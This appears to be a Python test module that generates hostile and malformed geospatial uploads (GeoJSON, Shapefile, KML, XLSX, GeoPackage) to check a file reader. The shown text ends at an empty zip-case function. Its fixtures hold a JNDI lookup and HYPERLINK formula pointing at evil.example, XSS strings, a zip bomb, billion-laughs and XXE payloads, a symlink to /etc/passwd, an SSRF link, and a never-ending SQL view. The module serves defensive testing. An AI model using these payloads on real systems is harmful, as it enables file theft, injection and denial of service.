"""A corpus of valid, malformed and hostile files, built in code (no binary fixtures are committed).

Each entry: the bytes, the upload name, the verdict :func:`verdict` must return, the keyword
arguments for :func:`geo.io.reader.read`, and optionally a check on the result. Verdicts are either a
:class:`geo.io.reader.ReadError` code (``refused-type``, ``refused-zip``, ``needs-crs`` …) or, for a
successful read, ``ok``, ``repaired`` (a row was repaired or changed) or ``rejected-rows`` (a row
was rejected or dropped).

The canary: ``CANARY_PATH`` holds ``CANARY`` and the VRT/GDALG entries try to read it; the test
asserts the canary text never comes back in any result, error or report.
"""

from __future__ import annotations

import html
import io
import json
import sqlite3
import struct
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import shapely

import geo.io.reader  # noqa: F401 - hardens GDAL before pyogrio is imported below

CANARY = "CANARY-7f3a9c-SECRET"
CANARY_DIR = Path(tempfile.gettempdir()) / "geo-reader-canary"
CANARY_PATH = CANARY_DIR / "canary.csv"

# A few Xuhui outlines (WGS-84), small enough to check by hand.
XUHUI = [
    ("caohejing", "漕河泾开发区", [(121.393, 31.163), (121.418, 31.163), (121.418, 31.178), (121.393, 31.178)]),
    ("ai_tower", "西岸智塔", [(121.456, 31.171), (121.459, 31.171), (121.459, 31.174), (121.456, 31.174)]),
    ("beiyang", "北杨人工智能小镇", [(121.440, 31.105), (121.452, 31.105), (121.452, 31.115), (121.440, 31.115)]),
]
HOSTILE_TEXT = [
    '<img src=x onerror="alert(1)">',
    "${jndi:ldap://evil.example/a}",
    "<script>alert('x')</script>",
    '=HYPERLINK("http://evil.example","click")',
    "+86-21-1234",
    "@SUM(A1)",
    "-2+3",
]


def ring(coords: list[tuple[float, float]]) -> list[tuple[float, float]]:
    """Close a ring."""
    return [*coords, coords[0]]


def ensure_canary() -> Path:
    """Write the canary file the VRT/GDALG entries point at."""
    CANARY_DIR.mkdir(exist_ok=True)
    CANARY_PATH.write_text(f"secret,other\n{CANARY},x\n", encoding="utf-8")
    return CANARY_PATH


# ---------------------------------------------------------------------------------------------
# Writers
# ---------------------------------------------------------------------------------------------


def geojson(features: list[dict[str, Any]], **top: Any) -> bytes:
    """A FeatureCollection as UTF-8 bytes."""
    return json.dumps({"type": "FeatureCollection", **top, "features": features}, ensure_ascii=False).encode()


def feature(props: dict[str, Any], geometry: dict[str, Any] | None) -> dict[str, Any]:
    return {"type": "Feature", "properties": props, "geometry": geometry}


def polygon(coords: list[tuple[float, ...]], *, close: bool = True) -> dict[str, Any]:
    return {"type": "Polygon", "coordinates": [ring(coords) if close else coords]}


def xuhui_geojson() -> bytes:
    return geojson([feature({"id": i, "name_zh": n}, polygon(c)) for i, n, c in XUHUI])


def _shp_record(kind: int, parts: list[list[tuple[float, ...]]]) -> bytes:
    if kind == 0:
        return struct.pack("<i", 0)
    pts = [p for part in parts for p in part]
    xs, ys = [p[0] for p in pts], [p[1] for p in pts]
    if kind == 1:
        return struct.pack("<i2d", 1, pts[0][0], pts[0][1])
    starts, i = [], 0
    for part in parts:
        starts.append(i)
        i += len(part)
    body = struct.pack("<i4d2i", kind, min(xs), min(ys), max(xs), max(ys), len(parts), len(pts))
    body += struct.pack(f"<{len(starts)}i", *starts) + b"".join(struct.pack("<2d", p[0], p[1]) for p in pts)
    if kind == 15:  # PolygonZ: z range, z values, m range, m values
        zs = [p[2] if len(p) > 2 else 0.0 for p in pts]
        body += struct.pack("<2d", min(zs), max(zs)) + struct.pack(f"<{len(zs)}d", *zs)
        body += struct.pack("<2d", 0, 0) + struct.pack(f"<{len(zs)}d", *([0.0] * len(zs)))
    return body


def shapefile(
    shapes: list[list[list[tuple[float, ...]]] | None],
    fields: list[tuple[bytes, str, int]],
    rows: list[list[bytes]],
    *,
    kind: int = 5,
    ldid: int = 0,
) -> dict[str, bytes]:
    """The .shp, .shx and .dbf of a Shapefile, byte by byte (full control of names and encodings).

    ``shapes`` are lists of rings (None for a null shape); ``fields`` are (raw name, type, width);
    ``rows`` hold raw cell bytes, already encoded as the test wants.
    """
    records = [_shp_record(kind if s is not None else 0, s or []) for s in shapes]
    pts = [p for s in shapes if s for part in s for p in part] or [(0.0, 0.0)]
    bbox = (min(p[0] for p in pts), min(p[1] for p in pts), max(p[0] for p in pts), max(p[1] for p in pts))

    def header(length: int) -> bytes:
        return struct.pack(">7i", 9994, 0, 0, 0, 0, 0, length // 2) + struct.pack(
            "<2i8d", 1000, kind, *bbox, 0, 0, 0, 0
        )

    shp, shx, offset = b"", b"", 100
    for number, record in enumerate(records, 1):
        shp += struct.pack(">2i", number, len(record) // 2) + record
        shx += struct.pack(">2i", offset // 2, len(record) // 2)
        offset += 8 + len(record)
    record_len = 1 + sum(w for _, _, w in fields)
    dbf = struct.pack("<B3BIHH", 3, 125, 1, 1, len(rows), 32 + 32 * len(fields) + 1, record_len)
    dbf += b"\x00" * 17 + bytes([ldid]) + b"\x00\x00"
    for name, typ, width in fields:
        dbf += name[:10].ljust(11, b"\x00") + typ.encode() + b"\x00" * 4 + bytes([width, 0]) + b"\x00" * 14
    dbf += b"\r"
    for row in rows:
        dbf += b" " + b"".join(
            (v[:w].ljust(w) if t == "C" else v[:w].rjust(w)) for v, (_, t, w) in zip(row, fields, strict=True)
        )
    dbf += b"\x1a"
    return {".shp": header(100 + len(shp)) + shp, ".shx": header(100 + len(shx)) + shx, ".dbf": dbf}


class _GbkZipInfo(zipfile.ZipInfo):
    """A member name stored as raw GBK bytes without the UTF-8 flag, as Chinese Windows does."""

    raw_name: bytes = b""

    def _encodeFilenameFlags(self) -> tuple[bytes, int]:  # noqa: N802 - overrides zipfile's private name
        return self.raw_name, self.flag_bits & ~0x800


def zip_bytes(
    members: dict[str, bytes], *, gbk_names: bool = False, extra: Callable[[zipfile.ZipFile], None] | None = None
) -> bytes:
    """A deflated zip of ``members`` (names may contain folders)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            if gbk_names and not name.isascii():
                info = _GbkZipInfo(name.encode("gbk").decode("cp437"))
                info.raw_name = name.encode("gbk")
                info.compress_type = zipfile.ZIP_DEFLATED
                archive.writestr(info, data)
            else:
                archive.writestr(name, data)
        if extra is not None:
            extra(archive)
    return buffer.getvalue()


def shapefile_zip(
    stem: str, parts: dict[str, bytes], *, prj: str | None = None, cpg: str | None = None, gbk_names: bool = False
) -> bytes:
    members = {f"{stem}{suffix}": data for suffix, data in parts.items()}
    if prj is not None:
        members[f"{stem}.prj"] = prj.encode()
    if cpg is not None:
        members[f"{stem}.cpg"] = cpg.encode()
    return zip_bytes(members, gbk_names=gbk_names)


WGS84_PRJ = (
    'GEOGCS["GCS_WGS_1984",DATUM["D_WGS_1984",SPHEROID["WGS_1984",6378137.0,298.257223563]],'
    'PRIMEM["Greenwich",0.0],UNIT["Degree",0.0174532925199433]]'
)


def xuhui_shapefile(encoding: str, *, ldid: int = 0, name_field: str = "名称", width: int = 24) -> dict[str, bytes]:
    fields = [(b"id", "C", 12), (name_field.encode(encoding), "C", width), (b"area", "N", 10)]
    rows = [[i.encode(), n.encode(encoding), b"10000"] for i, n, _ in XUHUI]
    return shapefile([[ring(c)] for _, _, c in XUHUI], fields, rows, ldid=ldid)


def xlsx_bytes(
    rows: list[list[Any]],
    *,
    sheet: str = "载体",
    extra_sheets: dict[str, list[list[Any]]] | None = None,
) -> bytes:
    from openpyxl import Workbook  # noqa: PLC0415

    book = Workbook()
    ws = book.active
    ws.title = sheet
    for row in rows:
        ws.append(row)
    for name, more in (extra_sheets or {}).items():
        other = book.create_sheet(name)
        for row in more:
            other.append(row)
    # openpyxl would store "=..." as a formula: force the formula-like cells to be text cells.
    for sheet_obj in book.worksheets:
        for cells in sheet_obj.iter_rows():
            for cell in cells:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def gpkg_bytes(layers: dict[str, list[tuple[str, str, list[tuple[float, float]]]]], *, view: bool = False) -> bytes:
    import geopandas as gpd  # noqa: PLC0415
    import pyogrio  # noqa: PLC0415 - geo.io.reader was imported first: GDAL is hardened

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "x.gpkg"
        for name, items in layers.items():
            frame = gpd.GeoDataFrame(
                {"id": [i for i, _, _ in items], "name_zh": [n for _, n, _ in items]},
                geometry=[shapely.Polygon(c) for _, _, c in items],
                crs=4326,
            )
            pyogrio.write_dataframe(frame, path, layer=name, driver="GPKG")
        if view:
            con = sqlite3.connect(path)
            con.execute(  # a view that never ends: reading it would hang the server
                "CREATE VIEW slow AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) "
                'SELECT t.* FROM "carriers" t, c'
            )
            con.execute(
                "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
                "VALUES ('slow', 'features', 'slow', 4326)"
            )
            con.execute("INSERT INTO gpkg_geometry_columns VALUES ('slow', 'geom', 'POLYGON', 4326, 0, 0)")
            con.commit()
            con.close()
        return path.read_bytes()


def parquet_bytes() -> bytes:
    import geopandas as gpd  # noqa: PLC0415

    frame = gpd.GeoDataFrame(
        {"id": [i for i, _, _ in XUHUI], "name_zh": [n for _, n, _ in XUHUI]},
        geometry=[shapely.Polygon(c) for _, _, c in XUHUI],
        crs=4326,
    )
    buffer = io.BytesIO()
    frame.to_parquet(buffer)
    return buffer.getvalue()


# ---------------------------------------------------------------------------------------------
# Big and hostile payloads
# ---------------------------------------------------------------------------------------------


def zip_bomb(size: int = 200 * 1024 * 1024) -> bytes:
    """A Shapefile zip whose .dbf inflates to ``size`` bytes of zeros (~1000:1)."""
    parts = xuhui_shapefile("utf-8")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.shp", parts[".shp"])
        archive.writestr("bomb.shx", parts[".shx"])
        with archive.open("bomb.dbf", "w") as member:
            chunk = b"\x00" * (1 << 20)
            for _ in range(size // len(chunk)):
                member.write(chunk)
    return buffer.getvalue()


def many_points_zip(count: int = 250_000) -> bytes:
    """A few MB of zip holding more point features than allowed."""
    xs = 121.4 + np.arange(count) * 1e-7
    ys = 31.1 + (np.arange(count) % 997) * 1e-6
    rec = np.zeros(count, dtype=[("num", ">i4"), ("len", ">i4"), ("kind", "<i4"), ("x", "<f8"), ("y", "<f8")])
    rec["num"], rec["len"], rec["kind"], rec["x"], rec["y"] = np.arange(1, count + 1), 10, 1, xs, ys
    idx = np.zeros(count, dtype=[("off", ">i4"), ("len", ">i4")])
    idx["off"], idx["len"] = 50 + np.arange(count) * 14, 10
    bbox = (xs.min(), ys.min(), xs.max(), ys.max())

    def header(length: int) -> bytes:
        return struct.pack(">7i", 9994, 0, 0, 0, 0, 0, length // 2) + struct.pack("<2i8d", 1000, 1, *bbox, 0, 0, 0, 0)

    shp = header(100 + rec.nbytes) + rec.tobytes()
    shx = header(100 + idx.nbytes) + idx.tobytes()
    dbf = struct.pack("<B3BIHH", 3, 125, 1, 1, count, 65, 2) + b"\x00" * 20
    dbf += b"v".ljust(11, b"\x00") + b"C" + b"\x00" * 4 + bytes([1, 0]) + b"\x00" * 14 + b"\r" + b" a" * count + b"\x1a"
    return zip_bytes({"points.shp": shp, "points.shx": shx, "points.dbf": dbf, "points.prj": WGS84_PRJ.encode()})


def huge_vertex_geojson(count: int = 5_500_000) -> bytes:
    """One polygon with more vertices than allowed, still under the upload cap."""
    body = b"[121.4,31.1]," + b"[0,0]," * count + b"[121.4,31.1]"
    return (
        b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":'
        b'{"type":"Polygon","coordinates":[[' + body + b"]]}}]}"
    )


def vrt(path: Path) -> bytes:
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="canary"><SrcDataSource>{path}</SrcDataSource>'
        "</OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def gdalg(path: Path) -> bytes:
    return json.dumps(
        {
            "type": "gdal_streamed_alg",
            "command_line": f"gdal vector pipeline ! read {path} ! write --of stream streamed",
        }
    ).encode()


KML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Document><name>奥维导出</name>'


def kml_placemark(
    name: str, coords: list[tuple[float, float]], data: dict[str, str] | None = None, *, close: bool = True
) -> str:
    pts = ring(coords) if close else coords
    ext = "".join(f'<Data name="{k}"><value>{v}</value></Data>' for k, v in (data or {}).items())
    return (
        f"<Placemark><name>{name}</name><ExtendedData>{ext}</ExtendedData><Polygon><outerBoundaryIs><LinearRing>"
        f"<coordinates>{' '.join(f'{x},{y},0' for x, y in pts)}</coordinates></LinearRing></outerBoundaryIs>"
        "</Polygon></Placemark>"
    )


def kml_bytes(folders: dict[str, list[str]]) -> bytes:
    body = "".join(f"<Folder><name>{f}</name>{''.join(pms)}</Folder>" for f, pms in folders.items())
    return (KML_HEAD + body + "</Document></kml>").encode()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE kml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&d;</name></Placemark></Document></kml>"""


def xxe(path: Path) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "file://{path}">]>'
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&x;</name>'
        "<Point><coordinates>121.4,31.1</coordinates></Point></Placemark></Document></kml>"
    ).encode()


def _link_zip(archive: zipfile.ZipFile) -> None:
    info = zipfile.ZipInfo("link.shp")
    info.external_attr = 0o120777 << 16
    info.create_system = 3
    archive.writestr(info, "/etc/passwd")


# ---------------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------------


@dataclass
class Case:
    """One corpus file and what reading it must give."""

    data: bytes
    filename: str
    verdict: str
    kwargs: dict[str, Any] = field(default_factory=dict)
    check: Callable[[Any], None] | None = None
    slow: bool = False


def _names(expected: list[str], column: str = "name_zh") -> Callable[[Any], None]:
    def check(result: Any) -> None:
        assert list(result.frame[column]) == expected, list(result.frame[column])

    return check


def _hostile_values(result: Any) -> None:
    frame = result.frame
    for text in HOSTILE_TEXT[:3]:
        assert text in frame.columns or text in frame.to_numpy().ravel().tolist(), text


def _bowtie(result: Any) -> None:
    geom = result.frame.geometry.iloc[0]
    assert geom.geom_type == "MultiPolygon"
    assert len(geom.geoms) == 2
    assert geom.area > 0


def _lands_in_xuhui(result: Any) -> None:
    minx, miny, maxx, maxy = result.frame.total_bounds
    assert 121.3 < minx < maxx < 121.6, result.frame.total_bounds
    assert 31.0 < miny < maxy < 31.3, result.frame.total_bounds


def _formats(c: dict[str, Case], canary: Path, names: list[str]) -> None:
    """Valid files in every accepted format."""
    # --- valid files in every accepted format ---
    c["geojson"] = Case(xuhui_geojson(), "carriers.geojson", "ok", check=_names(names))
    c["geojson-gbk-bytes"] = Case(xuhui_geojson().decode().encode("gbk"), "carriers.geojson", "ok", check=_names(names))
    gpkg2 = gpkg_bytes(
        {"carriers": [(i, n, ring(co)) for i, n, co in XUHUI], "zones": [("pole", "漕河泾增长极", ring(XUHUI[0][2]))]}
    )
    c["gpkg-two-layers"] = Case(gpkg2, "xuhui.gpkg", "needs-layer")
    c["gpkg-layer-chosen"] = Case(gpkg2, "xuhui.gpkg", "ok", {"layer": "carriers"}, _names(names))
    c["gpkg-view"] = Case(
        gpkg_bytes({"carriers": [(i, n, ring(co)) for i, n, co in XUHUI]}, view=True),
        "x.gpkg",
        "refused-content",
        {"layer": "slow"},
    )
    c["geoparquet"] = Case(parquet_bytes(), "carriers.parquet", "ok", check=_names(names))
    c["kml-ovital"] = Case(
        kml_bytes({"载体": [kml_placemark(n, co, {"面积": "10000", "id": i}) for i, n, co in XUHUI]}),
        "奥维.kml",
        "ok",
        check=_names(names, "name"),
    )  # altitude 0 dropped: a note
    c["kml-two-folders"] = Case(
        kml_bytes({"载体": [kml_placemark("a", XUHUI[0][2])], "片区": [kml_placemark("b", XUHUI[1][2])]}),
        "x.kml",
        "needs-layer",
    )
    c["kml-folder-chosen"] = Case(
        c["kml-two-folders"].data, "x.kml", "ok", {"layer": "奥维导出 / 片区"}, _names(["b"], "name")
    )
    c["kmz"] = Case(
        zip_bytes({"doc.kml": c["kml-ovital"].data, "files/icon.png": b"\x89PNG"}),
        "x.kmz",
        "ok",
        check=_names(names, "name"),
    )
    wkt_rows = [["id", "名称", "WKT"], *[[i, n, shapely.Polygon(co).wkt] for i, n, co in XUHUI]]
    csv_text = "\n".join(",".join(f'"{v}"' for v in row) for row in wkt_rows)
    c["csv-wkt-no-crs"] = Case(csv_text.encode(), "carriers.csv", "needs-crs")
    c["csv-wkt"] = Case(csv_text.encode(), "carriers.csv", "ok", {"crs": "EPSG:4326"}, _names(names, "名称"))
    c["csv-gbk"] = Case(csv_text.encode("gbk"), "carriers.csv", "ok", {"crs": "EPSG:4326"}, _names(names, "名称"))
    lonlat = "经度,纬度,名称\n121.40,31.17,漕河泾\n121.45,31.17,西岸\n"
    c["csv-lonlat-points"] = Case(lonlat.encode(), "points.csv", "no-polygons", {"crs": "EPSG:4326"})
    c["xlsx-wkt"] = Case(xlsx_bytes(wkt_rows), "carriers.xlsx", "ok", {"crs": "EPSG:4326"}, _names(names, "名称"))
    formula_rows = [
        ["id", "note", "WKT"],
        *[[f"f{k}", t, shapely.Polygon(XUHUI[0][2]).wkt] for k, t in enumerate(HOSTILE_TEXT)],
    ]

    def formulas_stay_text(result: Any) -> None:
        assert list(result.frame["note"]) == HOSTILE_TEXT

    c["xlsx-formula-text"] = Case(xlsx_bytes(formula_rows), "f.xlsx", "ok", {"crs": "EPSG:4326"}, formulas_stay_text)


def _encodings(c: dict[str, Case], canary: Path, names: list[str]) -> None:
    """Shapefile encodings."""
    # --- Shapefile encodings ---
    gbk = xuhui_shapefile("gbk")
    c["shp-gbk-cpg"] = Case(
        shapefile_zip("载体", gbk, prj=WGS84_PRJ, cpg="GBK", gbk_names=True),
        "载体.zip",
        "ok",
        check=_names(names, "名称"),
    )
    c["shp-gbk-no-cpg"] = Case(
        shapefile_zip("zaiti", gbk, prj=WGS84_PRJ), "zaiti.zip", "ok", check=_names(names, "名称")
    )
    c["shp-gbk-ldid"] = Case(
        shapefile_zip("zaiti", xuhui_shapefile("gbk", ldid=0x4D), prj=WGS84_PRJ),
        "z.zip",
        "ok",
        check=_names(names, "名称"),
    )
    c["shp-wrong-cpg"] = Case(shapefile_zip("zaiti", gbk, prj=WGS84_PRJ, cpg="UTF-8"), "z.zip", "needs-encoding")
    c["shp-wrong-cpg-chosen"] = Case(
        c["shp-wrong-cpg"].data, "z.zip", "ok", {"encoding": "GB18030"}, _names(names, "名称")
    )
    c["shp-gbk-cpg-over-utf8"] = Case(
        shapefile_zip("z", xuhui_shapefile("utf-8"), prj=WGS84_PRJ, cpg="GBK"), "z.zip", "needs-encoding"
    )
    c["shp-utf8-cpg"] = Case(
        shapefile_zip("z", xuhui_shapefile("utf-8"), prj=WGS84_PRJ, cpg="UTF-8"),
        "z.zip",
        "ok",
        check=_names(names, "名称"),
    )
    cut = xuhui_shapefile("utf-8", name_field="建筑面积平方米", width=10)  # name 21 bytes → 10; values cut at 10

    def cut_ok(result: Any) -> None:
        assert "建筑面" in result.frame.columns, list(result.frame.columns)
        assert list(result.frame["建筑面"]) == ["漕河泾", "西岸智", "北杨人"], list(result.frame["建筑面"])

    c["shp-utf8-cut-mid-character"] = Case(
        shapefile_zip("z", cut, prj=WGS84_PRJ, cpg="UTF-8"), "z.zip", "ok", check=cut_ok
    )
    deep = {f"交付/2024/图层/载体{s}": b for s, b in gbk.items()} | {
        "交付/2024/图层/载体.prj": WGS84_PRJ.encode(),
        "交付/说明.txt": "说明".encode("gbk"),
    }
    c["shp-deep-folders"] = Case(zip_bytes(deep, gbk_names=True), "交付.zip", "ok", check=_names(names, "名称"))
    two = {f"a/carriers{s}": b for s, b in gbk.items()} | {f"b/zones{s}": b for s, b in gbk.items()}
    c["shp-two-layers"] = Case(zip_bytes(two), "two.zip", "needs-layer")
    gbk_kml = kml_bytes({"载体": [kml_placemark(n, co) for _, n, co in XUHUI]}).decode()
    c["kml-gbk-declared"] = Case(
        gbk_kml.replace('encoding="UTF-8"', 'encoding="GBK"').encode("gbk"), "g.kml", "ok", check=_names(names, "name")
    )
    c["kml-says-utf8-but-gbk"] = Case(gbk_kml.encode("gbk"), "g.kml", "needs-encoding")
    tsv = "名称\tWKT\n" + "\n".join(f"{n}\t{shapely.Polygon(co).wkt}" for _, n, co in XUHUI)
    c["csv-utf16-tsv"] = Case(
        tsv.encode("utf-16"), "excel-unicode.txt", "ok", {"crs": "EPSG:4326"}, _names(names, "名称")
    )
    c["shp-no-prj"] = Case(shapefile_zip("z", gbk), "z.zip", "needs-crs")


def _hygiene(c: dict[str, Case], canary: Path, names: list[str]) -> None:
    """Geometry hygiene."""
    # --- geometry hygiene ---
    bow = [(121.40, 31.10), (121.42, 31.12), (121.42, 31.10), (121.40, 31.12)]
    c["bowtie"] = Case(geojson([feature({"id": "bow"}, polygon(bow))]), "bow.geojson", "repaired", check=_bowtie)
    c["unclosed-ring"] = Case(
        geojson([feature({"id": "u"}, polygon(XUHUI[0][2], close=False))]), "u.geojson", "repaired"
    )
    gc = {
        "type": "GeometryCollection",
        "geometries": [polygon(XUHUI[0][2]), {"type": "Point", "coordinates": [121.4, 31.1]}],
    }
    c["geometry-collection"] = Case(geojson([feature({"id": "gc"}, gc)]), "gc.geojson", "repaired")
    only_points = {"type": "GeometryCollection", "geometries": [{"type": "Point", "coordinates": [121.4, 31.1]}]}
    c["geometry-collection-no-polygon"] = Case(
        geojson([feature({"id": "ok"}, polygon(XUHUI[0][2])), feature({"id": "gcp"}, only_points)]),
        "g.geojson",
        "rejected-rows",
    )
    z3 = [(x, y, 12.5) for x, y in XUHUI[0][2]]
    c["3d"] = Case(geojson([feature({"id": "z"}, polygon(z3))]), "z.geojson", "repaired")
    c["3d-shapefile"] = Case(
        shapefile_zip("z", shapefile([[ring(z3)]], [(b"id", "C", 4)], [[b"z"]], kind=15), prj=WGS84_PRJ),
        "z.zip",
        "repaired",
    )
    c["null-empty-point-line"] = Case(
        geojson(
            [
                feature({"id": "good"}, polygon(XUHUI[0][2])),
                feature({"id": "null"}, None),
                feature({"id": "empty"}, {"type": "Polygon", "coordinates": []}),
                feature({"id": "pt"}, {"type": "Point", "coordinates": [121.4, 31.1]}),
                feature({"id": "ln"}, {"type": "LineString", "coordinates": [[121.4, 31.1], [121.5, 31.2]]}),
            ]
        ),
        "mixed.geojson",
        "rejected-rows",
    )
    c["shp-null-shape"] = Case(
        shapefile_zip("z", shapefile([[ring(XUHUI[0][2])], None], [(b"id", "C", 4)], [[b"a"], [b"b"]]), prj=WGS84_PRJ),
        "z.zip",
        "rejected-rows",
    )


def _coordinates(c: dict[str, Case], canary: Path, names: list[str]) -> None:
    """Coordinates."""
    # --- coordinates ---
    metres = [(630000.0, 3450000.0), (632000.0, 3450000.0), (632000.0, 3452000.0), (630000.0, 3452000.0)]
    c["projected-as-degrees"] = Case(geojson([feature({"id": "m"}, polygon(metres))]), "m.geojson", "needs-crs")
    c["projected-chosen"] = Case(
        c["projected-as-degrees"].data, "m.geojson", "ok", {"crs": "EPSG:4549"}, _lands_in_xuhui
    )
    swapped = [(y, x) for x, y in XUHUI[0][2]]
    c["swapped-axes"] = Case(geojson([feature({"id": "s"}, polygon(swapped))]), "s.geojson", "needs-crs")
    c["swapped-axes-chosen"] = Case(
        c["swapped-axes"].data, "s.geojson", "ok", {"crs": "EPSG:4326", "swap_xy": True}, _lands_in_xuhui
    )
    member_4549 = {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::4549"}}
    c["crs-4549-over-degrees"] = Case(
        geojson([feature({"id": "d"}, polygon(XUHUI[0][2]))], crs=member_4549), "d.geojson", "needs-crs"
    )
    c["crs-4549-over-degrees-chosen"] = Case(
        c["crs-4549-over-degrees"].data, "d.geojson", "ok", {"crs": "EPSG:4326"}, _lands_in_xuhui
    )
    c["crs-4549-real-metres"] = Case(
        geojson([feature({"id": "m"}, polygon(metres))], crs=member_4549), "m.geojson", "ok", check=_lands_in_xuhui
    )
    paris = [(2.33, 48.85), (2.35, 48.85), (2.35, 48.87), (2.33, 48.87)]
    c["outside-china"] = Case(geojson([feature({"id": "p"}, polygon(paris))]), "p.geojson", "needs-crs")
    c["outside-china-confirmed"] = Case(c["outside-china"].data, "p.geojson", "ok", {"crs": "EPSG:4326"})
    c["gcj02-chosen"] = Case(c["geojson"].data, "gcj.geojson", "ok", {"crs": "GCJ-02"})
    c["crs-file-path"] = Case(
        geojson(
            [feature({"id": "f"}, polygon(XUHUI[0][2]))], crs={"type": "name", "properties": {"name": str(canary)}}
        ),
        "f.geojson",
        "refused-content",
    )
    c["property-named-crs"] = Case(
        geojson([feature({"id": "p", "crs": "EPSG:4549"}, polygon(XUHUI[0][2]))]), "p.geojson", "ok"
    )
    c["bd09-chosen"] = Case(xuhui_geojson(), "bd.geojson", "ok", {"crs": "BD-09"})
    c["crs-link-ssrf"] = Case(
        geojson(
            [feature({"id": "l"}, polygon(XUHUI[0][2]))],
            crs={"type": "link", "properties": {"href": "http://127.0.0.1:9/internal", "type": "ogcwkt"}},
        ),
        "l.geojson",
        "refused-content",
    )


def _hostile_text(c: dict[str, Case], canary: Path, names: list[str]) -> None:
    """Hostile attribute text (HTML, ${…}, formulas) in values and names."""
    # --- hostile attribute text (HTML, ${…}, formulas) in values and names ---
    props = {t: t for t in HOSTILE_TEXT[:3]} | {"id": "h", "name_zh": HOSTILE_TEXT[1]}
    c["hostile-text-geojson"] = Case(
        geojson([feature(props, polygon(XUHUI[0][2]))]), "h.geojson", "ok", check=_hostile_values
    )
    short = [b"<b>x</b>", b"${jndi:x}", b"<i>y</i>"]

    def short_ok(result: Any) -> None:
        for name in short:
            assert name.decode() in result.frame.columns
        assert result.frame[short[1].decode()].iloc[0] == HOSTILE_TEXT[1][:30]

    c["hostile-text-shapefile"] = Case(
        shapefile_zip(
            "h",
            shapefile(
                [[ring(XUHUI[0][2])]], [(n, "C", 40) for n in short], [[t.encode()[:40] for t in HOSTILE_TEXT[:3]]]
            ),
            prj=WGS84_PRJ,
            cpg="UTF-8",
        ),
        "h.zip",
        "ok",
        check=short_ok,
    )
    hostile_csv = (
        ",".join(f'"{t.replace(chr(34), chr(34) * 2)}"' for t in [*HOSTILE_TEXT[:3], "WKT"])
        + "\n"
        + ",".join(
            f'"{t.replace(chr(34), chr(34) * 2)}"' for t in [*HOSTILE_TEXT[:3], shapely.Polygon(XUHUI[0][2]).wkt]
        )
    )
    c["hostile-text-csv"] = Case(hostile_csv.encode(), "h.csv", "ok", {"crs": "EPSG:4326"}, _hostile_values)
    escaped = {html.escape(t): html.escape(t) for t in HOSTILE_TEXT[:3]}
    c["hostile-text-kml"] = Case(
        kml_bytes({"h": [kml_placemark("h", XUHUI[0][2], escaped)]}), "h.kml", "ok", check=_hostile_values
    )
    c["hostile-text-xlsx"] = Case(
        xlsx_bytes([[*HOSTILE_TEXT[:3], "WKT"], [*HOSTILE_TEXT[:3], shapely.Polygon(XUHUI[0][2]).wkt]]),
        "h.xlsx",
        "ok",
        {"crs": "EPSG:4326"},
        _hostile_values,
    )


def _refused_types(c: dict[str, Case], canary: Path, names: list[str]) -> None:
    """Refused types."""
    gbk = xuhui_shapefile("gbk")
    # --- refused types ---
    c["vrt-canary"] = Case(vrt(canary), "canary.vrt", "refused-type")
    c["vrt-named-geojson"] = Case(vrt(canary), "innocent.geojson", "refused-type")
    c["gdalg-canary"] = Case(gdalg(canary), "canary.gdalg.json", "refused-type")
    c["gdalg-named-geojson"] = Case(gdalg(canary), "innocent.geojson", "refused-type")
    gdalg_padded = (
        b'{"pad": "' + b"x" * 5000 + b'", "type": "FeatureCollection", "features": [], "x": ' + gdalg(canary) + b"}"
    )
    c["gdalg-hidden-in-geojson"] = Case(gdalg_padded, "innocent.geojson", "refused-type")
    c["non-json"] = Case(b"this is not json at all", "x.geojson", "refused-type")
    c["truncated-json"] = Case(xuhui_geojson()[:120], "x.geojson", "unreadable")
    c["html-as-geojson"] = Case(b"<!DOCTYPE html><html><body>login</body></html>", "x.geojson", "refused-type")
    c["empty-file"] = Case(b"", "x.geojson", "refused-type")
    c["empty-collection"] = Case(geojson([]), "empty.geojson", "empty")
    c["old-xls"] = Case(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "x.xls", "refused-type")
    c["lone-shp"] = Case(gbk[".shp"], "x.shp", "refused-type")
    c["gml"] = Case(
        b'<?xml version="1.0"?><gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml"/>', "x.gml", "refused-type"
    )
    c["topojson"] = Case(b'{"type":"Topology","objects":{},"arcs":[]}', "x.json", "refused-type")


def _xml_tricks(c: dict[str, Case], canary: Path, names: list[str]) -> None:
    """XML tricks."""
    # --- XML tricks ---
    c["kml-billion-laughs"] = Case(BILLION_LAUGHS, "laughs.kml", "refused-content")
    c["kml-billion-laughs-utf16"] = Case(BILLION_LAUGHS.decode().encode("utf-16"), "laughs16.kml", "refused-content")
    c["kml-xxe"] = Case(xxe(canary), "xxe.kml", "refused-content")


def _zips(c: dict[str, Case], canary: Path, names: list[str]) -> None:
    """Zips."""
